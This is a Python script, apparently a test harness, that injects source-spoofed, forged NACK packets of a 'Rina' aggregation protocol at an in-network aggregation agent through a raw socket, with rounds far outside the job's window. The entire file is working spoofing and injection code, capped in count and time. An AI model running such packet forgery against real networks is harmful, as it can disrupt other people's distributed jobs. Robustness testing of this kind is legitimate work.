#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1 OR BSD-2-Clause
"""Forged NACKs of far rounds, source spoofed, at an INA agent.

Usage: nack_inject.py JOBFILE SRC_IP:PORT DST_IP:PORT COUNT SECONDS

Sends COUNT well-formed Rina NACKs (the job's id, allgather phase, one
seq each) from the spoofed SRC (a worker of the agent's rack) to DST
(the agent port) over SECONDS, through a raw socket: rounds alternate
16384 ahead of and 16384 behind the job's first rounds, seqs 0..63.
Prints how many it sent. Bounded in count and time; needs CAP_NET_RAW.
"""
import socket
import struct
import sys
import time

RINA_VERSION, OP_NACK, F_AG_PHASE = 1, 5, 0x80


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def job_id(path):
    for line in open(path):
        f = line.split()
        if len(f) == 2 and f[0] == "job":
            return int(f[1], 0)
    sys.exit("nack_inject: no 'job ID' line in %s" % path)


def endpoint(s):
    ip, port = s.rsplit(":", 1)
    return socket.inet_aton(ip), int(port)


def packet(src, dst, job, rnd, seq):
    rina = struct.pack("!BBHHBBHHIHHHHbBH", RINA_VERSION << 4 | OP_NACK,
                       F_AG_PHASE, job, rnd, 0, 0, 1, 0, seq, 0, 1, 0, 0,
                       -128, 0, 0) + struct.pack("!I", seq)
    ulen = 8 + len(rina)
    pseudo = src[0] + dst[0] + struct.pack("!BBH", 0, socket.IPPROTO_UDP,
                                           ulen)
    udp = struct.pack("!HHHH", src[1], dst[1], ulen, 0)
    c = csum(pseudo + udp + rina) or 0xffff
    udp = struct.pack("!HHHH", src[1], dst[1], ulen, c)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, seq & 0xffff,
                     0x4000, 64, socket.IPPROTO_UDP, 0, src[0], dst[0])
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + udp + rina


def main():
    if len(sys.argv) != 6:
        sys.exit(__doc__)
    job = job_id(sys.argv[1])
    src, dst = endpoint(sys.argv[2]), endpoint(sys.argv[3])
    count, secs = int(sys.argv[4]), float(sys.argv[5])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    gap = secs / max(count, 1)
    t0, sent = time.monotonic(), 0
    for k in range(count):
        rnd = (0xc000 if k % 2 else 0x4000) + k // 2
        s.sendto(packet(src, dst, job, rnd & 0xffff, k % 64),
                 (socket.inet_ntoa(dst[0]), 0))
        sent += 1
        lag = t0 + (k + 1) * gap - time.monotonic()
        if lag > 0:
            time.sleep(lag)
    print("nack_inject: sent %d forged NACKs in %.2f s" %
          (sent, time.monotonic() - t0), flush=True)


if __name__ == "__main__":
    main()
